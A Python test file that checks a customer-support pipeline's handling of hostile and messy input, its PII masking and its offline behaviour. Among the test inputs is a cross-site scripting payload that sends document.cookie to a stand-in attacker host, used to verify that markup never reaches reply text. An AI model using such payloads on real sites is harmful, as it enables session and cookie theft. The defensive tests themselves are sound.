"""The whole local pipeline (real models, real SQLite) under messy and hostile input: what an agent would notice."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services import assist, intents
from services.adapters.local.intent import save_model
from services.bootstrap import Services, build_services
from services.config import Settings
from services.errors import InvalidInput
from services.models import Article, Customer, Order
from services.text import MAX_MESSAGE_CHARS
from tests.repos import repos

ROOT = Path(__file__).resolve().parents[3]
CHANNELS = ("chat", "email", "social", "voice")
WRITTEN = "2026-01-05T09:00:00Z"
ARTICLES = (
    Article(0, "late-delivery", "My delivery is late or missing",
            "If your parcel is more than three working days late, message us with the order number and we will "
            "ask the courier to trace it. Most late parcels turn up within two days of a trace.",
            "delivery", "approved", 1, WRITTEN),
    Article(0, "refunds", "When will I get my refund?",
            "Refunds go back to the card you paid with within 5-10 business days after the warehouse receives "
            "your return. You will get an email when the refund is issued.", "billing", "approved", 1, WRITTEN),
)
ROSA = Customer(0, "Rosa Ngata", "rosa.ngata@example.org", "+1 555 010 4477", "gold", 840.0, "2023-04-11",
                "Denver", "@rosa_cooks")
ORDER_NUMBER = "BW-174502"
LONG_EMAIL = (
    "Hello Brightwave team,\n\nI ordered the AeroBlend 900 blender three weeks ago for my sister's birthday and it "
    "still has not arrived. The tracking page said it left your warehouse on the 2nd but nothing has moved since, "
    "and the courier's phone line just plays music at me for twenty minutes and hangs up. I've attached nothing "
    "because there is nothing to attach!! Could you please check what is going on and either send a new one or "
    "refund me? The party is next Saturday.\n\nMany thanks (and sorry for the rant),\nA very tired customer\n\n"
    "> On Mon you wrote:\n> Thanks for contacting us, we'll get back to you within 24 hours.\n\n")
HOSTILE = {
    "emoji only": "😡😡📦❌🚚💨🙄",
    "arabic": "مرحبا، طلبي لم يصل بعد وقد مر أسبوعان. أين هو؟",
    "hebrew": "שלום, ההזמנה שלי עדיין לא הגיעה. מתי היא תגיע?",
    "mixed scripts": "hi!! 我的订单 BW-100200 still нет доставки 😤 ¿dónde está? मदद please",
    "zero-width and bidi": "where\u200b is\u200d my\u2066 refund\u202e ?dnuf\u202c thx\u200f",
    "nul and controls": "my kettle\x00 stopped\x07 working\x1b[31m red light\x7f blinking",
    "script tag": "hey <script>alert(1)</script> is this thing on?? my toaster won't turn on",
    "img onerror": '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)"> refund my order pls',
    "markdown": "# URGENT\n**charged twice** for my order\n\n- once on monday\n- again on tuesday\n\n"
                "[my bank statement](http://bank.example/s/1) `ERR_42` ~~please~~ fix",
}
HTML_KEPT = {"script tag": "<script>alert(1)</script>", "img onerror": "<img src=x onerror=",
             "markdown": "**charged twice**"}
INVISIBLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


class Recording:
    """Wraps a real provider and keeps the arguments of every call (a hand-written spy, not a mock)."""

    def __init__(self, inner: Any) -> None:
        self._inner = inner
        self.calls: list[tuple[str, tuple[Any, ...]]] = []

    def __getattr__(self, name: str) -> Any:
        attribute = getattr(self._inner, name)
        if not callable(attribute):
            return attribute

        def recorded(*args: Any) -> Any:
            self.calls.append((name, args))
            return attribute(*args)
        return recorded

    def texts(self, method: str) -> list[str]:
        """The first argument of every call to `method` (the text the provider was given)."""
        return [str(args[0]) for name, args in self.calls if name == method]


@pytest.fixture(scope="module")
def pipeline(tmp_path_factory: pytest.TempPathFactory) -> Services:
    """Local services whose model-facing providers are recorded, over a two-article KB and one customer."""
    settings = Settings(db_path=str(tmp_path_factory.mktemp("robust") / "frontline.db"))
    real = build_services(settings)
    services = build_services(settings, **{name: Recording(real.get(name))
                                           for name in ("intent", "sentiment", "search", "replies")})
    for article in ARTICLES:
        repos(services).articles.add(article)
    rosa = repos(services).customers.add(ROSA)
    repos(services).customers.add_order(Order(0, ORDER_NUMBER, rosa.id, "shipped", 89.0, "USD", "2026-01-02T10:00:00Z",
                                   ("AeroBlend 900 Blender",), "BWT204918337"))
    return services


def _spy(services: Services, capability: str) -> Recording:
    spy = services.get(capability)
    spy.calls.clear()
    return spy


# ---- input the pipeline must refuse, with a message a user understands ------------------------------------------


@pytest.mark.parametrize("text", ["", "   ", "\n\t \r\n", "\x00\x01\x02\x1f\x7f", "\u200b\u200d\u202e\u2066"])
def test_an_empty_message_is_refused_as_empty(pipeline, text):
    with pytest.raises(InvalidInput, match="empty"):
        assist.analyze_message(pipeline, text)


def test_a_message_of_other_invisible_characters_is_refused_as_empty(pipeline):
    with pytest.raises(InvalidInput, match="empty"):
        assist.analyze_message(pipeline, "\x90\x9f\ufeff\u2060\u00ad")


def test_an_oversized_message_is_refused_naming_the_limit(pipeline):
    with pytest.raises(InvalidInput) as refused:
        assist.analyze_message(pipeline, "a" * (MAX_MESSAGE_CHARS + 1), "email")
    assert f"{MAX_MESSAGE_CHARS:,}" in str(refused.value)


# ---- messy and hostile input is analysed, and the data is kept as written ----------------------------------------


def test_a_100_kb_email_thread_is_analysed_and_kept_whole(pipeline):
    """How fast: bench/long_message.py (docs/benchmarks.md); here, that it is analysed and nothing is cut."""
    text = (LONG_EMAIL * (100_000 // len(LONG_EMAIL) + 1))[:100_000]
    analysis = assist.analyze_message(pipeline, text, "email")
    assert 2 <= len(analysis.suggestions) <= 3
    assert analysis.masked_text.endswith(text.strip()[-60:])  # stored whole, not cut at the analysed head


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize("kind", list(HOSTILE))
def test_hostile_text_is_analysed_with_replies(pipeline, kind, channel):
    analysis = assist.analyze_message(pipeline, HOSTILE[kind], channel)
    assert 2 <= len(analysis.suggestions) <= 3
    assert all(s.text.strip() for s in analysis.suggestions)
    assert not INVISIBLE.search(analysis.masked_text)


@pytest.mark.parametrize("kind", list(HTML_KEPT))
def test_markup_is_kept_literally_in_the_masked_text(pipeline, kind):
    analysis = assist.analyze_message(pipeline, HOSTILE[kind])
    assert HTML_KEPT[kind] in analysis.masked_text


@pytest.mark.parametrize("kind", ["arabic", "hebrew", "mixed scripts"])
def test_right_to_left_and_mixed_scripts_are_kept_as_written(pipeline, kind):
    assert assist.analyze_message(pipeline, HOSTILE[kind]).masked_text == HOSTILE[kind]


def test_script_tags_do_not_reach_the_reply_text(pipeline):
    for kind in HTML_KEPT:
        analysis = assist.analyze_message(pipeline, HOSTILE[kind], "email")
        assert not any(re.search(r"<\s*(script|img)", s.text, re.I) for s in analysis.suggestions)


def test_a_truncated_emoji_from_a_json_webhook_is_handled(pipeline):
    text = json.loads('"great service \\ud83d"')  # the second half of the emoji was cut off
    assert 2 <= len(assist.analyze_message(pipeline, text, "social").suggestions) <= 3


# ---- PII never reaches the models ----------------------------------------------------------------------------------

CARD, EMAIL, PHONE, IBAN = "4539 1488 0343 6467", "dana.w@example.com", "+1 555 013 2345", "GB82 WEST 1234 5698 7654 32"
PII_MESSAGE = (f"hi, my card {CARD} was charged twice for the blender!! email me at {EMAIL} or ring {PHONE} "
               f"and refund it to IBAN {IBAN} pls")


def _leaks(text: str, secrets: tuple[str, ...]) -> list[str]:
    compact = re.sub(r"\s", "", text)
    return [s for s in secrets if s in text or re.sub(r"\s", "", s) in compact]


def _model_inputs(services: Services) -> list[str]:
    sentiment = services.get("sentiment")
    return [*services.get("intent").texts("classify"), *sentiment.texts("analyze"), *sentiment.texts("emotions"),
            *services.get("search").texts("search"),
            *(args[0].masked_text for name, args in services.get("replies").calls if name == "suggest")]


@pytest.mark.parametrize("channel", CHANNELS)
def test_card_email_phone_and_iban_never_reach_models_replies_or_kb_queries(pipeline, channel):
    for capability in ("intent", "sentiment", "search", "replies"):
        _spy(pipeline, capability)
    analysis = assist.analyze_message(pipeline, PII_MESSAGE, channel)
    secrets = (CARD, EMAIL, PHONE, IBAN)
    inputs = _model_inputs(pipeline)
    assert len(inputs) >= 5  # intent, sentiment, emotions, KB query and the replies' context were all seen
    assert _leaks(analysis.masked_text, secrets) == []
    assert [leak for text in inputs for leak in _leaks(text, secrets)] == []
    assert [leak for s in analysis.suggestions for leak in _leaks(s.text, secrets)] == []
    assert {"[EMAIL]", "[PHONE]", "[IBAN]"} <= set(re.findall(r"\[[A-Z]+\]", analysis.masked_text))
    assert f"[CARD •••• {CARD[-4:]}]" in analysis.masked_text


@pytest.mark.parametrize("phone", ["(555) 013-2345", "555.013.2345", "020 7946 0958", "+44 7700 900123",
                                   "07700900123", "+49 30 1234567", "+33 6 12 34 56 78", "5550132345"])
def test_phone_numbers_in_common_formats_are_masked(pipeline, phone):
    _spy(pipeline, "intent")
    analysis = assist.analyze_message(pipeline, f"my kettle broke, pls call me back on {phone} after 6pm")
    assert _leaks(analysis.masked_text, (phone,)) == []
    assert _leaks(" ".join(pipeline.get("intent").texts("classify")), (phone,)) == []


@pytest.mark.parametrize("text", [
    f"@BrightwaveHome where is {ORDER_NUMBER}??? 9 days now. dm me or email {ROSA.email}",
    f"refund for {ORDER_NUMBER} STILL not back on my card. {ROSA.email} has the receipt 😤",
    f"{ORDER_NUMBER} arrived smashed, blender jug in pieces. absolutely unacceptable. {ROSA.email}",
    f"love the blender from order {ORDER_NUMBER} 😍 thanks team! (it's {ROSA.email} if you need me)",
])
def test_social_replies_never_show_the_order_number_or_the_customers_email(pipeline, text):
    rosa = next(c for c in repos(pipeline).customers.all() if c.email == ROSA.email)
    analysis = assist.analyze_message(pipeline, text, "social", assist.context_for(pipeline, rosa.id))
    replies = " ".join(s.text for s in analysis.suggestions)
    assert 2 <= len(analysis.suggestions) <= 3
    assert ORDER_NUMBER not in replies and ORDER_NUMBER.split("-")[1] not in replies
    assert ROSA.email not in replies and "Ngata" not in replies


# ---- arbitrary unicode ---------------------------------------------------------------------------------------------


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(text=st.text(max_size=2000))
def test_arbitrary_unicode_raises_nothing_but_invalid_input_on_any_channel(pipeline, text):
    for channel in CHANNELS:
        try:
            analysis = assist.analyze_message(pipeline, text, channel)
        except InvalidInput:
            continue
        assert 2 <= len(analysis.suggestions) <= 3


# ---- offline guard: a cold process with the network refused --------------------------------------------------------

TICKETS = {
    "where_is_it": ["where is my parcel??", "order BW-100233 not here yet", "tracking hasnt moved in 4 days",
                    "when will my blender arrive", "courier says delivered but nothing at my door",
                    "is my order shipped yet"],
    "money_back": ["i want my money back", "refund for the kettle pls", "charged twice, refund the extra",
                   "how long do refunds take", "sent the toaster back, where's my refund",
                   "cancel and refund order BW-100871"],
    "login": ["cant log in", "password reset email never comes", "locked out of my account after 3 tries",
              "change the email on my account", "2fa code not arriving", "how do i delete my account"],
}
GUARD = """
import json, socket, sys
attempts = []
def refuse(name):
    def refused(*args, **kwargs):
        attempts.append(f"{name} {[a for a in args if not isinstance(a, socket.socket)][:2]!r}")
        raise OSError(f"the offline guard refused {name}")
    return refused
socket.socket.connect = refuse("socket.connect")
socket.create_connection = refuse("socket.create_connection")
socket.getaddrinfo = refuse("socket.getaddrinfo")
from tests.adapters.local.test_pipeline_robustness import cold_session
print(json.dumps({"attempts": attempts, **cold_session(sys.argv[1])}))
"""


def cold_session(folder: str) -> dict[str, Any]:
    """Build services, analyse a message, search the KB, train, save, load and use an intent model (the guarded
    subprocess of the offline test runs this in a fresh interpreter, so every model loads cold)."""
    services = build_services(Settings(db_path=str(Path(folder) / "cold.db")))
    for article in ARTICLES:
        repos(services).articles.add(article)
    analysis = assist.analyze_message(services, f"where is {ORDER_NUMBER}?? tracking hasnt moved, email {EMAIL}")
    hits = services.get("search").search("my refund has not arrived", 3)
    data = ([t for texts in TICKETS.values() for t in texts], [label for label, texts in TICKETS.items()
                                                              for _ in texts])
    saved = save_model(intents.train_model(services, data), Path(folder) / "tickets-model")
    loaded = intents.classifier_for(services, folder=saved)
    return {"intent": analysis.intent.label, "suggestions": len(analysis.suggestions),
            "kb": [h.title for h in hits], "trained": loaded.classify("my refund never came").label}


def test_the_default_path_never_touches_the_network(tmp_path):
    done = subprocess.run([sys.executable, "-c", GUARD, str(tmp_path)], cwd=ROOT, capture_output=True, text=True,
                          timeout=120, env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), "HOME": str(tmp_path)})
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])
    assert result["attempts"] == []
    assert result["suggestions"] >= 2 and result["intent"]
    assert result["kb"][0] == "When will I get my refund?"
    assert result["trained"] == "money_back"
